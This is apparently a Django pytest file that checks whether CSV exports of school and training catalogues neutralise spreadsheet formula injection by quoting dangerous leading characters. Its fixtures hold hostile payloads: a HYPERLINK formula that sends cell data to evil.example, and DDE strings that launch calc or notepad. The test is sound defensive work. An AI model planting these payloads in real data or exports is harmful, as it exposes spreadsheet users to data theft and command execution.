"""CSV formula injection (issue 20, finding 6): a label or a name that starts like a formula reaches no export as a
formula. OWASP's rule, in the one serializer every CSV goes through: a text cell starting with `=`, `+`, `-`, `@`,
a tab or a carriage return is written with a leading `'`, so spreadsheet software shows it as text."""

import csv
import io
import re

import pytest

from guidance.catalog.models import Voie
from tests.factories import make_formation, make_offer, make_school, real_bac_pro

pytestmark = pytest.mark.django_db

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_LABEL = '=HYPERLINK("https://evil.example/?d="&A1;"Cliquez ici")'
HOSTILE_NAMES = ['@SUM(1+1)*cmd|" /C calc"!A0', "\t=1+1", "\r=1+1"]
HOSTILE_OTHER_LABELS = {"50099901": "+cmd|' /C notepad'!A1", "50099902": "-2+3+cmd|' /C calc'!A0"}


@pytest.fixture
def hostile_catalogue():
    real = real_bac_pro()
    formation = make_formation(real.cfd, HOSTILE_LABEL, mefstat11=real.mefstat11)
    others = [make_formation(cfd, label, diploma_type="CAP") for cfd, label in HOSTILE_OTHER_LABELS.items()]
    schools = [make_school(f"099900{n}A", name) for n, name in enumerate(HOSTILE_NAMES, start=1)]
    for school in schools:
        make_offer(school, formation, Voie.SCOLAIRE, mefstat11=real.mefstat11)
    for other in others:
        make_offer(schools[0], other, Voie.SCOLAIRE)
    return formation, schools


def _cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) > 1
    return [cell for row in rows for cell in row]


def _exports(formation, schools) -> dict[str, str]:
    first = schools[0]
    items = "&".join(
        [f"item=f:{formation.cfd}:scolaire", *(f"item=e:{s.uai}:{formation.cfd}:scolaire" for s in schools)]
    )
    return {
        "formation": f"/formations/{formation.cfd}/export.csv",
        "school": f"/etablissements/{first.uai}/export.csv",
        "school × formation": f"/etablissements/{first.uai}/formations/{formation.cfd}/export.csv",
        "comparator": f"/comparer/export.csv?{items}",
    }


def test_no_export_has_a_cell_that_starts_like_a_formula(client, hostile_catalogue):
    formation, schools = hostile_catalogue
    for name, url in _exports(formation, schools).items():
        cells = _cells(client.get(url))
        formulas = [c for c in cells if c.startswith(DANGEROUS_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", c)]
        assert formulas == [], name
        # The values are kept, as text: one quote in front, nothing else changed.
        assert "'" + HOSTILE_LABEL in cells, name
        if name != "formation":
            assert "'" + HOSTILE_NAMES[0] in cells, name
    school_cells = _cells(client.get(_exports(formation, schools)["school"]))
    assert {"'" + label for label in HOSTILE_OTHER_LABELS.values()} <= set(school_cells)
    compared = _cells(client.get(_exports(formation, schools)["comparator"]))
    assert {"'" + name for name in HOSTILE_NAMES} <= set(compared)
